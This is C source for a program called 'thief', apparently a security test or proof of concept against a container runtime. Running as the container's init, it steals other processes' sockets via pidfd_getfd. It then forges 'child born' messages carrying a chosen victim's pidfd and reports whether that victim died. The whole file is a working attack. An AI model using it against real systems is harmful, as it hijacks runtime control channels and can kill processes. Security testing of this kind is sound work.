/*
 * Runs as a container's first process and takes the sockets of processes that join it, with
 * CAP_SYS_PTRACE and pidfd_getfd(). Statically linked.
 *
 *	thief keep	keeps them open: who waits for their end waits for us
 *	thief lie	says on each that a child was born, and sends a process of its own choice
 *			for it
 *	thief idle	the program that they become
 *
 * "took N" at the end: how many sockets. It ends when the file "end" is there.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* runtime/ns/launch.c and runtime/init/stage.h */
enum { SAY_BORN = 2, STAGE_BORN = 102, FDS = 64, PIDS = 1 << 16, KEPT = 256 };

static struct stat own;
static unsigned long took;
static bool known[PIDS]; /* who was lied about */

/* What was taken last, more than one process has. */
static struct {
	int fd;
	ino_t ino;
} kept[KEPT];

static bool is_ours(const char *pid)
{
	char path[512];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	return stat(path, &st) == 0 && st.st_dev == own.st_dev && st.st_ino == own.st_ino;
}

static void say_born(int sock, int kind, int pidfd)
{
	/* kind, class, number and no text: runtime/sys/msg.c */
	int m[3] = {kind};
	struct iovec io = {m, sizeof(m)};
	union {
		char space[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control = {0};
	struct msghdr h = {.msg_iov = &io,
			   .msg_iovlen = 1,
			   .msg_control = control.space,
			   .msg_controllen = sizeof(control)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&h);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &pidfd, sizeof(int));
	sendmsg(sock, &h, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* A process may get its next socket any time, so those that we have are looked at again and
 * again. */
static bool keep(int fd, ino_t ino)
{
	size_t i;

	for (i = 0; i < KEPT; i++)
		if (kept[i].ino == ino)
			return false;
	i = took++ % KEPT;
	if (kept[i].ino)
		close(kept[i].fd);
	kept[i].fd = fd;
	kept[i].ino = ino;
	return true;
}

static void lie(pid_t pid, int fd, int victim_fd)
{
	took++;
	known[pid] = true;
	/* The first is passed over where it is not expected, but not the second. */
	say_born(fd, STAGE_BORN, victim_fd);
	say_born(fd, SAY_BORN, victim_fd);
}

/* victim_fd: whom to name, or -1: keep what is taken. */
static void steal(pid_t pid, int victim_fd)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd, taken;
	struct stat st;

	for (fd = 3; fd < FDS && pidfd >= 0; fd++) {
		taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (taken < 0)
			continue;
		if (fstat(taken, &st) == 0 && S_ISSOCK(st.st_mode)) {
			if (victim_fd >= 0)
				lie(pid, taken, victim_fd);
			else if (keep(taken, st.st_ino))
				continue;
		}
		close(taken);
	}
	close(pidfd);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	FILE *report;
	struct dirent *d;
	int victim_fd = -1;
	pid_t victim = 0;
	DIR *proc;

	if (strcmp(what, "idle") == 0) {
		usleep(2000);
		return 0;
	}
	stat("/proc/self/exe", &own);
	if (strcmp(what, "lie") == 0) {
		victim = fork();
		if (victim == 0)
			for (;;)
				pause();
		victim_fd = (int)syscall(SYS_pidfd_open, victim, 0);
	}
	report = fopen("/report", "w");
	proc = opendir("/proc");
	if (!report || !proc)
		return 1;
	while (access("/end", F_OK) < 0) {
		rewinddir(proc);
		while ((d = readdir(proc)) != NULL) {
			pid_t pid = atoi(d->d_name);

			if (pid > 1 && pid < PIDS && pid != victim && !known[pid] &&
			    !is_ours(d->d_name))
				steal(pid, victim_fd);
		}
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	if (victim && kill(victim, 0) < 0)
		fprintf(report, "GOT the death of another\n");
	fprintf(report, "took %lu\nend\n", took);
	fclose(report);
	return 0;
}
